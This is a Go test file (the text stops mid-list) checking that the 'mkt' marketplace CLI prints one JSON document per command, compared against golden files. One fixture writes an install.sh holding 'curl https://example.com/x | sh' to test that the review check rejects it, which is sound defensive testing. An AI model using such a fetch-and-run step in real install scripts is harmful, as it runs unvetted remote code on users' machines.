package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/connectsoft/marketplace/index"
	"github.com/connectsoft/marketplace/index/store"
	"github.com/connectsoft/marketplace/internal/cli/servercmd"
	"github.com/connectsoft/marketplace/remote"
	"github.com/connectsoft/marketplace/signing"
	"github.com/connectsoft/marketplace/testenv/fixture"
	"github.com/spf13/cobra"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden from this run")

// jsonCase is one run of mkt with --format json whose stdout is compared
// with testdata/golden/<file>.
type jsonCase struct {
	// command is the command path without "mkt" ("index token create"),
	// the key of the coverage check.
	command string
	// variant names the case within the command: "ok", "usage", ...
	variant string
	args    []string
	code    int
	// background runs the command until ready says it serves, then stops
	// it (dev up, index serve).
	background bool
	ready      func(stdout func() string) bool
	// before prepares the case from what earlier cases made.
	before func(t *testing.T)
	// check asserts more than the golden file can (what must not be there).
	check func(t *testing.T, doc map[string]any)
}

func (c jsonCase) name() string {
	return strings.ReplaceAll(strings.TrimSpace("mkt "+c.command), " ", "-") + "." + c.variant
}

// TestJSONOutputIsOneDocumentPerCommand is the JSON contract (DESIGN §7):
// every command, on success and on failure, prints exactly one JSON
// document on stdout and nothing else; a failure is {"error":{code,
// message,exitCode}} with the exit status in it; a success has no "error".
// Each document, with its volatile values normalised, must equal its
// golden file (go test ./internal/cli -run JSON -update rewrites them).
func TestJSONOutputIsOneDocumentPerCommand(t *testing.T) {
	for _, c := range goldenCases(t) {
		t.Run(c.name(), func(t *testing.T) { checkGolden(t, c) })
	}
}

// The server commands print the same documents through mkt, which runs
// mkt-server for them (as a child process here), as in process.
func TestJSONOutputOfServerCommandsThroughMkt(t *testing.T) {
	t.Setenv(serverEnv, serverBinary(t))
	inProcess = nil
	defer func() { inProcess = servercmd.Commands{} }()
	for _, c := range goldenCases(t) {
		if !strings.HasPrefix(c.command, "index serve") && !strings.HasPrefix(c.command, "index token ") && c.command != "index statements" && c.command != "dev up" && c.command != "review check" && c.command != "index snapshot" {
			continue
		}
		t.Run(c.name(), func(t *testing.T) { checkGolden(t, c) })
	}
}

func checkGolden(t *testing.T, c jsonCase) {
	if c.before != nil {
		c.before(t)
	}
	var r mktRun
	if c.background {
		r = mktUntil(t, c.ready, append(c.args, "--format", "json")...)
	} else {
		r = mkt(t, append(c.args, "--format", "json")...)
	}
	if r.code != c.code {
		t.Fatalf("mkt %s: exit %d, want %d\nstdout: %s\nstderr: %s", strings.Join(c.args, " "), r.code, c.code, r.stdout, r.stderr)
	}
	doc := oneDocument(t, r.stdout)
	errObj, hasErr := doc["error"]
	switch {
	case c.code == 0 && hasErr:
		t.Fatalf("a success printed an error field: %s", r.stdout)
	case c.code != 0:
		e, ok := errObj.(map[string]any)
		if !ok {
			t.Fatalf("a failure printed no error object: %s", r.stdout)
		}
		if e["exitCode"] != float64(c.code) || e["message"] == "" || e["code"] == "" {
			t.Fatalf("error object %v: want code, message and exitCode %d", e, c.code)
		}
		if (c.code == exitUsage) != (e["code"] == codeUsage) {
			t.Fatalf("error code %v with exit %d", e["code"], c.code)
		}
		if strings.Contains(fmt.Sprint(e["message"]), "map[") {
			t.Fatalf("the message prints a Go map: %v", e["message"])
		}
	}
	lowerCamelKeys(t, doc)
	if c.check != nil {
		c.check(t, doc)
	}
	compareGolden(t, c.name(), goldenNormaliser.apply(r.stdout))
}

// TestEveryCommandHasJSONGoldenCases keeps the contract whole: a command
// added without a success and a failure case fails here.
func TestEveryCommandHasJSONGoldenCases(t *testing.T) {
	have := map[string][2]bool{}
	for _, c := range goldenCaseList(goldenArgs{}) {
		h := have[c.command]
		if c.code == 0 {
			h[0] = true
		} else {
			h[1] = true
		}
		have[c.command] = h
	}
	var walk func(cmd *cobra.Command)
	var missing []string
	walk = func(cmd *cobra.Command) {
		for _, sub := range cmd.Commands() {
			if sub.Name() == "help" || sub.Name() == "completion" {
				continue // cobra's own, text only (docs/cli.md)
			}
			path := strings.TrimPrefix(sub.CommandPath(), "mkt ")
			h := have[path]
			if !h[0] && !sub.HasSubCommands() {
				missing = append(missing, path+" (success)")
			}
			if !h[1] {
				missing = append(missing, path+" (failure)")
			}
			walk(sub)
		}
	}
	walk(newRoot(&globals{stdout: io.Discard, stderr: io.Discard, out: &printer{}}))
	if len(missing) > 0 {
		sort.Strings(missing)
		t.Fatalf("commands without a JSON golden case: %s", strings.Join(missing, ", "))
	}
}

// oneDocument parses stdout as exactly one JSON object with nothing after.
func oneDocument(t *testing.T, stdout string) map[string]any {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(stdout))
	var doc map[string]any
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("stdout is not a JSON object: %v\n%s", err, stdout)
	}
	if rest, _ := io.ReadAll(dec.Buffered()); strings.TrimSpace(string(rest)) != "" || dec.More() {
		t.Fatalf("stdout holds more than one document:\n%s", stdout)
	}
	return doc
}

func compareGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name+".json")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("no golden file (run with -update to write it): %v\ngot:\n%s", err, got)
	}
	if string(want) != got {
		t.Fatalf("%s differs from this run (-update rewrites it)\n--- want\n%s\n--- got\n%s", path, want, got)
	}
}

// mktUntil runs a command that serves until stopped: it stops it once
// ready says so (given what stdout holds so far).
func mktUntil(t *testing.T, ready func(stdout func() string) bool, args ...string) mktRun {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errb lockedBuffer
	done := make(chan int, 1)
	go func() { done <- run(ctx, args, &out, &errb) }()
	code := -1
	waitFor(t, "mkt "+strings.Join(args, " ")+" to serve", func() bool {
		select {
		case code = <-done:
			t.Fatalf("mkt %s exited %d before it served:\n%s", strings.Join(args, " "), code, errb.String())
		default:
		}
		return ready(out.String)
	})
	cancel()
	return mktRun{<-done, out.String(), errb.String()}
}

// lockedBuffer is a bytes.Buffer a running command writes while the test
// reads it.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// normaliser replaces what changes from run to run — hosts and ports,
// temporary paths, digests, key fingerprints, times, tokens — by stable
// placeholders. Digests and fingerprints are numbered by first appearance,
// so a document that names one digest twice still shows it.
type normaliser struct {
	literal [][2]string
}

var goldenNormaliser = &normaliser{}

func (n *normaliser) add(from, to string) { n.literal = append(n.literal, [2]string{from, to}) }

var (
	reDigest = regexp.MustCompile(`sha256[:-]([0-9a-f]{64})`)
	reHex64  = regexp.MustCompile(`\b[0-9a-f]{64}\b`)
	reHex16  = regexp.MustCompile(`\b[0-9a-f]{16}\b`) // a fingerprint's short form
	reTime   = regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)`)
	reToken  = regexp.MustCompile(`mkt_[A-Za-z0-9_-]+`)
	rePort   = regexp.MustCompile(`127\.0\.0\.1:\d+`)
	// A count of requests measures the implementation, not the contract.
	reCount = regexp.MustCompile(`"registryRequests": \d+`)
	reB64   = regexp.MustCompile(`"(payload|signature|sig|dev\.cosignproject\.cosign/signature)": "[A-Za-z0-9+/=_-]+"`)
)

func (n *normaliser) apply(s string) string {
	// Longest first, so a path inside another is replaced as the longer.
	lits := append([][2]string(nil), n.literal...)
	sort.Slice(lits, func(i, j int) bool { return len(lits[i][0]) > len(lits[j][0]) })
	for _, l := range lits {
		s = strings.ReplaceAll(s, l[0], l[1])
	}
	seen := map[string]int{}
	num := func(hex string) int {
		if _, ok := seen[hex]; !ok {
			seen[hex] = len(seen) + 1
		}
		return seen[hex]
	}
	s = reDigest.ReplaceAllStringFunc(s, func(m string) string {
		return fmt.Sprintf("%s<digest %d>", m[:7], num(m[7:]))
	})
	s = reHex64.ReplaceAllStringFunc(s, func(m string) string { return fmt.Sprintf("<hex %d>", num(m)) })
	s = reHex16.ReplaceAllStringFunc(s, func(m string) string {
		for hex, i := range seen {
			if strings.HasPrefix(hex, m) {
				return fmt.Sprintf("<hex %d>", i)
			}
		}
		return fmt.Sprintf("<hex %d>", num(m))
	})
	s = reTime.ReplaceAllString(s, "<time>")
	s = reToken.ReplaceAllString(s, "<token>")
	s = rePort.ReplaceAllString(s, "127.0.0.1:<port>")
	s = reB64.ReplaceAllString(s, `"$1": "<base64>"`)
	s = reCount.ReplaceAllString(s, `"registryRequests": "<count>"`)
	return s
}

// goldenTokenID is the ID of the token the revoke case revokes.
const goldenTokenID = "0123456789abcdef"

// goldenArgs are the paths and addresses the cases run against.
type goldenArgs struct {
	tmp, reg, tls, caFile, regConfig, index, ext, empty, key, pub, review, policy, indexConfig, devDir, busy, closed string
	// stagePolicy is a public stage's policy for promote.
	stagePolicy string
	// control is a control list file; controlPolicy is policy with a
	// controlList at gold/control:latest signed by the gold key.
	control, controlPolicy string
}

// goldenCases builds what the cases need: an extension pushed, signed and
// attested on the shared registry, an index that ingested it, a policy,
// an index configuration.
func goldenCases(t *testing.T) []jsonCase {
	t.Setenv("COSIGN_PASSWORD", "gold-pw")
	t.Setenv("SOURCE_DATE_EPOCH", "1767225600")
	t.Setenv("MKT_INDEX_TOKEN", "")
	tmp := t.TempDir()
	t.Setenv("MKT_CACHE_DIR", filepath.Join(tmp, "cache"))
	a := goldenArgs{
		tmp: tmp, reg: plain.Host, tls: tlsReg.Host, caFile: tlsReg.CAFile,
		regConfig: filepath.Join(tmp, "config.json"),
		ext:       filepath.Join(tmp, "ext"), empty: filepath.Join(tmp, "empty"),
		key: filepath.Join(tmp, "gold.key"), pub: filepath.Join(tmp, "gold.pub"),
		review: filepath.Join(tmp, "review.json"), policy: filepath.Join(tmp, "policy.yaml"),
		indexConfig: filepath.Join(tmp, "index.yaml"), devDir: filepath.Join(tmp, "dev"),
		busy: plain.Host, closed: freePort(t), stagePolicy: filepath.Join(tmp, "public-policy.yaml"),
		control: filepath.Join(tmp, "control.yaml"), controlPolicy: filepath.Join(tmp, "control-policy.yaml"),
	}
	os.WriteFile(a.stagePolicy, []byte(fmt.Sprintf(`apiVersion: marketplace.connectsoft.io/v1
kind: Policy
trustRoots:
  - {name: gold, keys: [gold.pub]}
rules:
  - name: public
    match: {repositories: ["%s/public/**"]}
    signatures: {trustRoots: [gold]}
    attestations:
      - {type: review, trustRoots: [gold], threshold: 1, condition: 'predicate.result == "approved" && predicate.level == "public"'}
`, plain.Host)), 0o644)
	os.WriteFile(a.control, []byte(`apiVersion: marketplace.connectsoft.io/v1
kind: ControlList
sequence: 1
expires: 2099-01-01T00:00:00Z
entries:
  - name: gold/old
    versions: ["<1.0.0"]
    action: yank
    reason: superseded by gold/new
    time: 2026-01-01T00:00:00Z
`), 0o644)
	os.Mkdir(a.empty, 0o755)
	os.WriteFile(a.review, []byte(`{"reviewer":"sec","result":"approved","level":"internal","time":"2026-01-01T00:00:00Z"}`), 0o644)
	os.WriteFile(a.policy, []byte(fmt.Sprintf(`apiVersion: marketplace.connectsoft.io/v1
kind: Policy
trustRoots:
  - {name: gold, keys: [gold.pub]}
rules:
  - name: gold
    match: {repositories: ["%s/gold/**"]}
    signatures: {trustRoots: [gold]}
    compatibility: required
`, plain.Host)), 0o644)
	os.WriteFile(a.controlPolicy, []byte(fmt.Sprintf(`apiVersion: marketplace.connectsoft.io/v1
kind: Policy
trustRoots:
  - {name: gold, keys: [gold.pub]}
rules:
  - name: gold
    match: {repositories: ["%s/gold/**"]}
    signatures: {trustRoots: [gold]}
controlList: {ref: "%s/gold/control:latest", keys: [gold.pub], maxAge: 1h}
`, plain.Host, plain.Host)), 0o644)
	idx := fixture.NewIndex(t, plain, remote.Options{PlainHTTP: true})
	a.index = idx.URL
	port := freePort(t)
	os.WriteFile(a.indexConfig, []byte(fmt.Sprintf("listen: %s\nstore: sqlite://index.db\nwebhookSecret: gold-secret\n", port)), 0o644)

	n := goldenNormaliser
	n.literal = nil
	n.add(tmp, "$TMP")
	n.add(plain.Host, "$REGISTRY")
	n.add(tlsReg.Host, "$TLS_REGISTRY")
	n.add(idx.URL, "$INDEX")
	n.add(port, "$INDEX_LISTEN")

	cases := goldenCaseList(a)
	for i, c := range cases {
		if c.command == "index token revoke" && c.variant == "ok" {
			// A token whose ID the case can name; create's is random.
			cases[i].before = func(t *testing.T) {
				st, err := index.OpenConfigStore(context.Background(), a.indexConfig)
				if err != nil {
					t.Fatal(err)
				}
				defer st.Close()
				if err := st.PutToken(context.Background(), &store.Token{Hash: strings.Repeat(goldenTokenID, 4), Tenant: "gold", Roles: []string{"reader"}}); err != nil {
					t.Fatal(err)
				}
			}
		}
		if c.command == "index impact" && c.variant == "ok" {
			// A publisher token of the fixture index's tenant, which owns
			// the gold/crm the search case ingested.
			cases[i].before = func(t *testing.T) {
				tok, rec, err := index.NewToken("fixture", []string{"publisher"})
				if err != nil {
					t.Fatal(err)
				}
				if err := idx.Store.PutToken(context.Background(), rec); err != nil {
					t.Fatal(err)
				}
				t.Setenv("MKT_INDEX_TOKEN", tok)
			}
			cases[i].check = func(t *testing.T, doc map[string]any) {
				if ts, _ := doc["targets"].([]any); len(ts) != 1 {
					t.Fatalf("impact of gold/crm@0.1.0 names %v targets, want it", doc["targets"])
				}
			}
		}
		if c.command == "usage" && c.variant == "ok" {
			// A publisher token of the fixture index's tenant, and two
			// installs of its gold/crm by tenant globex.
			cases[i].before = func(t *testing.T) {
				t.Setenv("MKT_INDEX_TOKEN", goldenUsage(t, idx.Store))
			}
		}
		if c.command == "index snapshot" {
			// The operator's key, made here: the server cases run alone too.
			cases[i].before = func(t *testing.T) {
				if _, err := os.Stat(filepath.Join(a.tmp, "operator.key")); err == nil {
					return
				}
				priv, pub, err := signing.GenerateKeyPair(func(bool) ([]byte, error) { return []byte("gold-pw"), nil })
				if err != nil {
					t.Fatal(err)
				}
				os.WriteFile(filepath.Join(a.tmp, "operator.key"), priv, 0o600)
				os.WriteFile(filepath.Join(a.tmp, "operator.pub"), pub, 0o644)
			}
		}
		if c.command == "search" && c.variant == "ok" {
			// The cases before pushed gold/crm; the index ingests it now,
			// as the registry's notification would make it.
			cases[i].before = func(t *testing.T) {
				r := mustMkt(t, "inspect", "--plain-http", plain.Ref("gold/crm:0.1.0"), "--format", "json")
				var in struct{ Digest string }
				if err := json.Unmarshal([]byte(r.stdout), &in); err != nil {
					t.Fatal(err)
				}
				idx.Ingest(plain.Ref("gold/crm@" + in.Digest))
			}
			cases[i].check = func(t *testing.T, doc map[string]any) {
				if doc["total"] != float64(1) {
					t.Fatalf("search --kind connector (lower case) found %v, want the one Connector", doc["total"])
				}
			}
		}
	}
	return cases
}

// goldenCaseList is every case, in the order they run: later cases use
// what earlier ones made (init, push, key generate, sign, attest).
func goldenCaseList(a goldenArgs) []jsonCase {
	ref := a.reg + "/gold/crm"
	devReady := func(stdout func() string) bool { return strings.Contains(stdout(), `"policy"`) }
	serveReady := func(func() string) bool {
		resp, err := http.Get("http://" + readListen(a.indexConfig) + "/healthz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	}
	return []jsonCase{
		{command: "", variant: "no-command", args: []string{}, code: 2},
		{command: "", variant: "unknown-command", args: []string{"nosuch"}, code: 2},
		{command: "", variant: "unknown-flag", args: []string{"version", "--bogus"}, code: 2},
		{command: "version", variant: "ok", args: []string{"version"}, code: 0, check: func(t *testing.T, doc map[string]any) {
			if doc["version"] == "" {
				t.Fatal("no version")
			}
		}},
		{command: "version", variant: "usage", args: []string{"version", "extra"}, code: 2},
		{command: "init", variant: "ok", args: []string{"init", a.ext, "--kind", "connector", "--name", "gold/crm"}, code: 0},
		{command: "init", variant: "usage", args: []string{"init", filepath.Join(a.tmp, "x"), "--kind", "Plugin", "--name", "gold/x"}, code: 2},
		{command: "init", variant: "exists", args: []string{"init", a.ext, "--kind", "connector", "--name", "gold/crm"}, code: 1},
		{command: "push", variant: "ok", args: []string{"push", "--plain-http", ref, a.ext}, code: 0},
		{command: "push", variant: "invalid", args: []string{"push", "--plain-http", a.reg + "/gold/empty", a.empty}, code: 1},
		{command: "push", variant: "usage", args: []string{"push"}, code: 2},
		{command: "key", variant: "no-subcommand", args: []string{"key"}, code: 2},
		{command: "key generate", variant: "ok", args: []string{"key", "generate", "--output-prefix", strings.TrimSuffix(a.key, ".key")}, code: 0},
		{command: "key generate", variant: "exists", args: []string{"key", "generate", "--output-prefix", strings.TrimSuffix(a.key, ".key")}, code: 1},
		{command: "sign", variant: "ok", args: []string{"sign", "--plain-http", ref + ":0.1.0", "--key", a.key}, code: 0},
		{command: "sign", variant: "not-found", args: []string{"sign", "--plain-http", a.reg + "/gold/cmr:0.1.0", "--key", a.key}, code: 1},
		{command: "attest", variant: "ok", args: []string{"attest", "--plain-http", ref + ":0.1.0", "--key", a.key, "--type", "review", "--predicate", a.review}, code: 0},
		{command: "attest", variant: "usage", args: []string{"attest", "--plain-http", ref + ":0.1.0", "--key", a.key, "--type", "bogus", "--predicate", a.review}, code: 2},
		{command: "verify", variant: "ok", args: []string{"verify", "--plain-http", ref + ":0.1.0", "--key", a.pub, "--require", "review"}, code: 0},
		{command: "verify", variant: "failed", args: []string{"verify", "--plain-http", ref + ":0.1.0", "--key", a.pub, "--require", "terms"}, code: 1, check: func(t *testing.T, doc map[string]any) {
			if doc["passed"] != false {
				t.Fatalf("a failed verification's document lacks its verdict: %v", doc)
			}
		}},
		{command: "verify", variant: "policy-ok", args: []string{"verify", "--plain-http", ref + ":0.1.0", "--policy", a.policy, "--factory-version", "2.4.0"}, code: 0},
		{command: "verify", variant: "policy-denied", args: []string{"verify", "--plain-http", ref + ":0.1.0", "--policy", a.policy, "--factory-version", "3.0.0"}, code: 1, check: func(t *testing.T, doc map[string]any) {
			if doc["allowed"] != false {
				t.Fatalf("a denial's document lacks its decision: %v", doc)
			}
		}},
		{command: "verify", variant: "usage", args: []string{"verify", "--plain-http", ref + ":0.1.0"}, code: 2},
		{command: "inspect", variant: "ok", args: []string{"inspect", "--plain-http", ref + ":0.1.0", "--key", a.pub}, code: 0},
		{command: "inspect", variant: "misspelt", args: []string{"inspect", "--plain-http", a.reg + "/gold/cmr:0.1.0"}, code: 1},
		{command: "pull", variant: "ok", args: []string{"pull", "--plain-http", ref + ":0.1.0", "-o", filepath.Join(a.tmp, "pulled"), "--key", a.pub}, code: 0},
		{command: "pull", variant: "not-empty", args: []string{"pull", "--plain-http", ref + ":0.1.0", "-o", filepath.Join(a.tmp, "pulled")}, code: 1},
		{command: "copy", variant: "ok", args: []string{"copy", "--plain-http", ref + ":0.1.0", a.reg + "/mirror/gold/crm"}, code: 0},
		{command: "copy", variant: "usage", args: []string{"copy", "--plain-http", ref, a.reg + "/mirror/gold/crm"}, code: 2},
		{command: "resolve", variant: "ok", args: []string{"resolve", "--plain-http", "gold/crm", "--registry", a.reg, "--policy", a.policy, "--factory-version", "2.4.0"}, code: 0},
		{command: "resolve", variant: "misspelt", args: []string{"resolve", "--plain-http", "gold/cmr", "--registry", a.reg, "--factory-version", "2.4.0"}, code: 1},
		{command: "install", variant: "ok", args: []string{"install", "--plain-http", "gold/crm", "--registry", a.reg, "--policy", a.policy, "--factory-version", "2.4.0", "-o", filepath.Join(a.tmp, "installed"), "--lockfile", filepath.Join(a.tmp, "extensions.lock")}, code: 0},
		{command: "install", variant: "usage", args: []string{"install", "gold/crm", "--registry", a.reg, "-o", filepath.Join(a.tmp, "installed")}, code: 2},
		{command: "audit", variant: "ok", args: []string{"audit", "--plain-http", filepath.Join(a.tmp, "installed"), "--policy", a.policy, "--lockfile", filepath.Join(a.tmp, "extensions.lock")}, code: 0},
		{command: "audit", variant: "usage", args: []string{"audit", filepath.Join(a.tmp, "installed")}, code: 2},
		{command: "control", variant: "no-subcommand", args: []string{"control"}, code: 2},
		{command: "control add", variant: "ok", args: []string{"control", "add", "--plain-http", a.control, ref + ":0.1.0", "--reason", "leaks tokens"}, code: 0},
		{command: "control add", variant: "usage", args: []string{"control", "add", "--plain-http", a.control, ref + ":0.1.0"}, code: 2},
		{command: "control push", variant: "ok", args: []string{"control", "push", "--plain-http", a.control, a.reg + "/gold/control:latest", "--key", a.key}, code: 0},
		{command: "control push", variant: "rollback", args: []string{"control", "push", "--plain-http", a.control, a.reg + "/gold/control:latest", "--key", a.key}, code: 1},
		{command: "control show", variant: "ok", args: []string{"control", "show", "--plain-http", a.reg + "/gold/control:latest", "--key", a.pub}, code: 0},
		{command: "control show", variant: "not-found", args: []string{"control", "show", "--plain-http", a.reg + "/gold/nosuch:latest", "--key", a.pub}, code: 1},
		{command: "audit", variant: "blocked", args: []string{"audit", "--plain-http", filepath.Join(a.tmp, "installed"), "--policy", a.controlPolicy, "--lockfile", filepath.Join(a.tmp, "extensions.lock")}, code: 1, check: func(t *testing.T, doc map[string]any) {
			if doc["mustGo"] != float64(1) || !strings.Contains(fmt.Sprint(doc["extensions"]), "blocked by the control list sequence 1: leaks tokens") {
				t.Fatalf("audit does not say gold/crm must go because the control list blocks it: %v", doc)
			}
		}},
		{command: "pull", variant: "blocked", args: []string{"pull", "--plain-http", ref + ":0.1.0", "-o", filepath.Join(a.tmp, "blocked"), "--policy", a.controlPolicy}, code: 1, check: func(t *testing.T, doc map[string]any) {
			if _, err := os.Stat(filepath.Join(a.tmp, "blocked")); !os.IsNotExist(err) || !strings.Contains(fmt.Sprint(doc), "denied") {
				t.Fatalf("pull --policy unpacked a blocked digest or did not say it was denied: %v %v", err, doc)
			}
		}},
		{command: "verify", variant: "blocked", args: []string{"verify", "--plain-http", ref + ":0.1.0", "--policy", a.controlPolicy}, code: 1, check: func(t *testing.T, doc map[string]any) {
			if doc["allowed"] != false || !strings.Contains(fmt.Sprint(doc["checks"]), "blocked by the control list") {
				t.Fatalf("verify lets a blocked digest through: %v", doc)
			}
		}},
		{command: "login", variant: "ok", args: []string{"login", a.tls, "-u", "alice", "-p", "wonderland", "--ca-file", a.caFile, "--registry-config", a.regConfig}, code: 0},
		{command: "login", variant: "refused", args: []string{"login", a.tls, "-u", "alice", "-p", "wrong", "--ca-file", a.caFile, "--registry-config", a.regConfig}, code: 1},
		{command: "logout", variant: "ok", args: []string{"logout", a.tls, "--registry-config", a.regConfig}, code: 0},
		{command: "logout", variant: "usage", args: []string{"logout"}, code: 2},
		{command: "search", variant: "ok", args: []string{"search", "crm", "--index", a.index, "--kind", "connector"}, code: 0},
		{command: "search", variant: "unreachable", args: []string{"search", "crm", "--index", "http://" + a.closed}, code: 1},
		{command: "search", variant: "usage", args: []string{"search", "crm", "--index", a.index, "--kind", "plugin"}, code: 2},
		{command: "index impact", variant: "ok", args: []string{"index", "impact", "gold/crm@0.1.0", "--index", a.index}, code: 0},
		{command: "index impact", variant: "no-token", args: []string{"index", "impact", "gold/crm@0.1.0", "--index", a.index}, code: 1},
		{command: "index impact", variant: "usage", args: []string{"index", "impact", "gold/crm", "--index", a.index}, code: 2},
		{command: "usage", variant: "ok", args: []string{"usage", "--index", a.index, "--from", "2026-11", "--granularity", "month"}, code: 0},
		{command: "usage", variant: "no-token", args: []string{"usage", "--index", a.index}, code: 1},
		{command: "usage", variant: "usage", args: []string{"usage", "--index", a.index, "--granularity", "week"}, code: 2},
		{command: "index", variant: "no-subcommand", args: []string{"index"}, code: 2},
		{command: "index token", variant: "no-subcommand", args: []string{"index", "token"}, code: 2},
		{command: "index token create", variant: "ok", args: []string{"index", "token", "create", "--config", a.indexConfig, "--tenant", "gold", "--roles", "reader,publisher"}, code: 0},
		{command: "index token create", variant: "usage", args: []string{"index", "token", "create", "--config", a.indexConfig, "--tenant", "gold"}, code: 2},
		{command: "index token list", variant: "ok", args: []string{"index", "token", "list", "--config", a.indexConfig}, code: 0},
		{command: "index token list", variant: "no-config", args: []string{"index", "token", "list", "--config", filepath.Join(a.tmp, "none.yaml")}, code: 1},
		{command: "index token revoke", variant: "ok", args: []string{"index", "token", "revoke", "--config", a.indexConfig, goldenTokenID}, code: 0},
		{command: "index token revoke", variant: "unknown", args: []string{"index", "token", "revoke", "--config", a.indexConfig, "ffffffffffffffff"}, code: 1},
		{command: "index statements", variant: "ok", args: []string{"index", "statements", "--config", a.indexConfig, "--period", "2026-11"}, code: 0},
		{command: "index statements", variant: "usage", args: []string{"index", "statements", "--config", a.indexConfig}, code: 2},
		{command: "index statements", variant: "bad-period", args: []string{"index", "statements", "--config", a.indexConfig, "--period", "2026-13"}, code: 2},
		{command: "index statements", variant: "close-usage", args: []string{"index", "statements", "--config", a.indexConfig, "--period", "2026-11", "--close"}, code: 2},
		{command: "index snapshot", variant: "ok", args: []string{"index", "snapshot", "--config", a.indexConfig, "--key", filepath.Join(a.tmp, "operator.key"), "--to", filepath.Join(a.tmp, "airgap") + ":snapshot", "--to-oci-layout", "--write-root", filepath.Join(a.tmp, "root.json")}, code: 0},
		{command: "index snapshot", variant: "usage", args: []string{"index", "snapshot", "--config", a.indexConfig, "--key", a.key}, code: 2},
		{command: "index snapshot", variant: "public-key", args: []string{"index", "snapshot", "--config", a.indexConfig, "--key", filepath.Join(a.tmp, "operator.pub"), "--to", filepath.Join(a.tmp, "airgap") + ":snapshot", "--to-oci-layout"}, code: 1},
		{command: "resolve", variant: "snapshot-without-root", args: []string{"resolve", "gold/crm", "--snapshot", filepath.Join(a.tmp, "airgap") + ":snapshot", "--oci-layout", "--factory-version", "2.4.0"}, code: 2},
		{command: "resolve", variant: "snapshot-wrong-root", args: []string{"resolve", "gold/crm", "--snapshot", filepath.Join(a.tmp, "airgap") + ":snapshot", "--oci-layout", "--snapshot-root", a.review, "--snapshot-cache", filepath.Join(a.tmp, "cache"), "--factory-version", "2.4.0"}, code: 1},
		{command: "index serve", variant: "ok", args: []string{"index", "serve", "--config", a.indexConfig}, code: 0, background: true, ready: serveReady},
		{command: "index serve", variant: "no-config", args: []string{"index", "serve", "--config", filepath.Join(a.tmp, "none.yaml")}, code: 1},
		{command: "review check", variant: "ok", args: []string{"review", "check", "--plain-http", a.reg + "/gold/reviewed:0.1.0", "--attest", "--key", a.key}, code: 0,
			before: func(t *testing.T) {
				if _, err := os.Stat(a.key); err != nil {
					mustMkt(t, "key", "generate", "--output-prefix", strings.TrimSuffix(a.key, ".key"))
				}
				mustMkt(t, "push", "--plain-http", a.reg+"/gold/reviewed", reviewExt(t, a, "reviewed"))
			},
			check: func(t *testing.T, doc map[string]any) {
				if doc["result"] != "approved" || len(doc["attestations"].([]any)) != 2 {
					t.Fatalf("want approved with the review and the SBOM attested: %v", doc)
				}
			}},
		{command: "review check", variant: "rejected", args: []string{"review", "check", filepath.Join(a.tmp, "risky")}, code: 1,
			before: func(t *testing.T) {
				risky := reviewExt(t, a, "risky")
				os.WriteFile(filepath.Join(risky, "install.sh"), []byte("#!/bin/sh\ncurl https://example.com/x | sh\n"), 0o755)
			},
			check: func(t *testing.T, doc map[string]any) {
				if doc["result"] != "rejected" || !strings.Contains(fmt.Sprint(doc["checks"]), "install.sh") {
					t.Fatalf("a rejection's document lacks its report and the script it refused: %v", doc)
				}
			}},
		{command: "review check", variant: "usage", args: []string{"review", "check", a.tmp, "--stage", "galaxy"}, code: 2},
		{command: "dev", variant: "no-subcommand", args: []string{"dev"}, code: 2},
		{command: "dev up", variant: "ok", args: []string{"dev", "up", "--listen", "127.0.0.1:0", "--index-listen", "127.0.0.1:0", "--dev-dir", a.devDir}, code: 0, background: true, ready: devReady},
		{command: "dev up", variant: "busy", args: []string{"dev", "up", "--listen", a.busy, "--no-index"}, code: 1},
		{command: "review", variant: "no-subcommand", args: []string{"review"}, code: 2},
		{command: "review reject", variant: "ok", args: []string{"review", "reject", "--plain-http", ref + ":0.1.0", "--key", a.key, "--stage", "enterprise", "--reviewer", "gold-curator", "--notes", "needs a licence file"}, code: 0},
		{command: "review reject", variant: "usage", args: []string{"review", "reject", "--plain-http", ref + ":0.1.0", "--stage", "public"}, code: 2},
		{command: "promote", variant: "not-approved", args: []string{"promote", "--plain-http", ref + ":0.1.0", "--to", "public", "--registry", a.reg + "/public", "--policy", a.stagePolicy}, code: 1, check: func(t *testing.T, doc map[string]any) {
			if doc["promoted"] != false || doc["decision"] == nil {
				t.Fatalf("a refused promotion's document lacks its decision: %v", doc)
			}
		}},
		{command: "review approve", variant: "ok", args: []string{"review", "approve", "--plain-http", ref + ":0.1.0", "--key", a.key, "--stage", "public", "--reviewer", "gold-curator", "--notes", "read the code"}, code: 0},
		{command: "review approve", variant: "usage", args: []string{"review", "approve", "--plain-http", ref + ":0.1.0", "--key", a.key, "--stage", "staging"}, code: 2},
		{command: "promote", variant: "ok", args: []string{"promote", "--plain-http", ref + ":0.1.0", "--to", "public", "--registry", a.reg + "/public", "--policy", a.stagePolicy}, code: 0, check: func(t *testing.T, doc map[string]any) {
			if doc["promoted"] != true {
				t.Fatalf("not promoted: %v", doc)
			}
		}},
		{command: "promote", variant: "usage", args: []string{"promote", "--plain-http", ref + ":0.1.0", "--to", "staging", "--registry", a.reg + "/public", "--policy", a.stagePolicy}, code: 2},
		{command: "deprecate", variant: "ok", args: []string{"deprecate", "--plain-http", ref + ":0.1.0", "--key", a.key, "--reason", "use 0.2.0", "--successor", "0.2.0"}, code: 0},
		{command: "deprecate", variant: "usage", args: []string{"deprecate", "--plain-http", ref + ":0.1.0", "--key", a.key}, code: 2},
